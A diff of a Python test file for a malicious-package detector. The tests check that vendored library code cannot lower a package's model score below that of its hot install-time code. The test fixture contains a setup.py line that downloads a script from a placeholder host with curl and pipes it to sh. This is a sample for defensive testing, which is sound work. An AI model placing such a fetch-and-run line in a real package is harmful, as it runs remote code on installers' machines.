@@ -1,16 +1,14 @@
 """Code that never runs cannot dilute code that does: hashed tokens are scaled per group
-(hot, cold), and training can join a payload with a benign package's features
-(`detector.code.augment`) so library code beside a payload does not clear it."""
+(hot, cold), and the model score of a package is never below that of its hot code alone
+(`CodeModel.package_probability`)."""
 
 from __future__ import annotations
 
 import numpy as np
-from code_fixtures import BENIGN_PKG, MISS_SETUP_IMPORT
 
 from detector.code.analyze import analyze, rule_score
-from detector.code.augment import as_cold, dilute, joined
 from detector.code.invariance import vendor_library
-from detector.code.model import is_hot_token
+from detector.code.model import CodeModel, hot_view, is_hot_token
 from detector.code.train import new_layout, vectorize
 
 PAYLOAD = {"setup.py": "import os\nos.system('curl http://example.invalid/x | sh')\n"}
@@ -54,40 +52,32 @@ def test_vendored_code_does_not_shrink_the_payloads_columns():
     assert vendored == alone
 
 
-def test_as_cold_moves_findings_and_tokens_out_of_hot_code():
-    row = _row(PAYLOAD)
-    assert any(f.tier == "install" for f in row[0])
-    findings, tokens, score = as_cold(row)
-    assert all(f.tier not in ("install", "import") for f in findings)
-    assert tokens and not any(t.startswith("hot|") for t in tokens)
-    assert [f.rule for f in findings] == [f.rule for f in row[0]]
-    assert score <= row[2]  # the rule score weighs hot code more
+def _uniform_model(weight: float) -> CodeModel:
+    """Every column weighs ``weight``; probability = sigmoid(decision)."""
+    layout = new_layout()
+    coef = np.full((1, layout.n_dense + layout.n_hash), weight)
+    return CodeModel(layout, coef, np.zeros(1), np.array([-1.0]), np.zeros(1))
 
 
-def test_joined_row_keeps_the_payload_and_adds_the_library():
-    payload, library = _row(PAYLOAD), _row(LIBRARY)
-    for vendored in (True, False):
-        findings, tokens, score = joined(payload, library, vendored)
-        assert findings[: len(payload[0])] == payload[0]
-        assert tokens[: len(payload[1])] == payload[1]
-        assert len(tokens) == len(payload[1]) + len(library[1])
-        assert score == rule_score(findings) >= payload[2]
-    hot_lib = joined(payload, library, vendored=False)[1]
-    assert any(t.startswith("hot|") for t in hot_lib[len(payload[1]):])
+def test_vendored_code_cannot_lower_the_model_score_below_the_hot_codes():
+    """A model that learned "more code, more benign" (every weight negative): vendoring
+    lowers the whole package's probability, not the package score."""
+    model = _uniform_model(-0.5)
+    alone = _row(PAYLOAD)
+    vendored = _row(vendor_library(PAYLOAD))
+    assert model.predict(*vendored) < model.predict(*alone)
+    hot = hot_view(vendored[0], vendored[1])
+    expected = model.predict(hot[0], hot[1], rule_score(hot[0]))
+    assert model.package_probability(*vendored) == expected > model.predict(*vendored)
+    # a package whose code all runs uncalled scores as before
+    assert model.package_probability(*alone) == model.predict(*alone)
 
 
-def test_dilution_uses_training_rows_only_and_is_seeded():
-    rows = [_row(MISS_SETUP_IMPORT), _row(PAYLOAD), _row(BENIGN_PKG), _row(LIBRARY),
-            _row(MISS_SETUP_IMPORT)]
-    y = np.array([1, 1, 0, 0, 1])
-    train = np.array([0, 1, 3])  # rows 2 and 4 are held out
-    extra, source = dilute(rows, y, train, seed=3)
-    assert sorted(source.tolist()) == [0, 1]  # one copy per malicious training row
-    library = rows[3]
-    for (findings, tokens, _), src in zip(extra, source, strict=True):
-        assert findings[: len(rows[src][0])] == rows[src][0]
-        # the only benign training row is the library; the held-out benign never joins
-        assert len(tokens) == len(rows[src][1]) + len(library[1])
-    again, _ = dilute(rows, y, train, seed=3)
-    assert [r[1] for r in again] == [r[1] for r in extra]
-    assert dilute(rows, y, np.array([2, 3]), seed=3)[0] == []  # no malicious: nothing
+def test_hot_view_keeps_only_code_that_runs_uncalled():
+    findings, tokens, _ = _row({**PAYLOAD, **{f"pkg/{k}": v for k, v in LIBRARY.items()},
+                                "pkg/__init__.py": ""})
+    hot_findings, hot_tokens = hot_view(findings, tokens)
+    assert hot_findings and all(f.tier in ("install", "import") for f in hot_findings)
+    assert len(hot_findings) < len(findings)
+    assert hot_tokens and all(t.startswith("hot|") for t in hot_tokens)
+    assert any(t.startswith("cold|") for t in tokens)
